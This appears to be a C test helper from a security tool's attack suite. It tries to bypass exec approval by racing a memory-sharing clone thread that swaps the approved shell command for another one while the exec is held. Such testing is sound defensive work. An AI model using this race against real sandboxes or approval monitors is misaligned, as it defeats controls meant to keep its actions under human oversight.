/* SPDX-License-Identifier: Apache-2.0 */
/*
 * hold_swap SHELL GO SCRIPT OTHER: runs SCRIPT, and while that exec is held a process with the same
 * memory waits until GO is there, puts OTHER in its place, and makes GO.did. OTHER is not the longer.
 */
#include <sched.h>
#include <time.h>

#include "t/attack/attack.h"

#define STACK_BYTES 65536
#define WAIT_MS 30000

static const char *go, *other;
static char script[4096], did[PATH_MAX];

static int peer(void *arg)
{
	const struct timespec ms = { 0, 1000000 };
	int fd;

	(void)arg;
	for (int i = 0; i < WAIT_MS && access(go, F_OK) < 0; i++)
		nanosleep(&ms, NULL);
	memcpy(script, other, strlen(other) + 1);
	fd = open(did, O_WRONLY | O_CREAT | O_CLOEXEC, 0600);
	if (fd >= 0)
		close(fd);
	_exit(0);
}

int main(int argc, char **argv)
{
	static char stack[STACK_BYTES] __attribute__((aligned(16)));
	char *words[] = { "sh", "-c", script, NULL };

	if (argc != 5 || strlen(argv[3]) >= sizeof(script) || strlen(argv[4]) > strlen(argv[3]))
		return 64;
	go = argv[2];
	other = argv[4];
	strcpy(script, argv[3]);
	snprintf(did, sizeof(did), "%s.did", go);
	if (clone(peer, stack + sizeof(stack), CLONE_VM, NULL) < 0)
		return attack_cannot("clone");
	execv(argv[1], words);
	return errno == EPERM ? ATTACK_DENIED : ATTACK_OTHER;
}
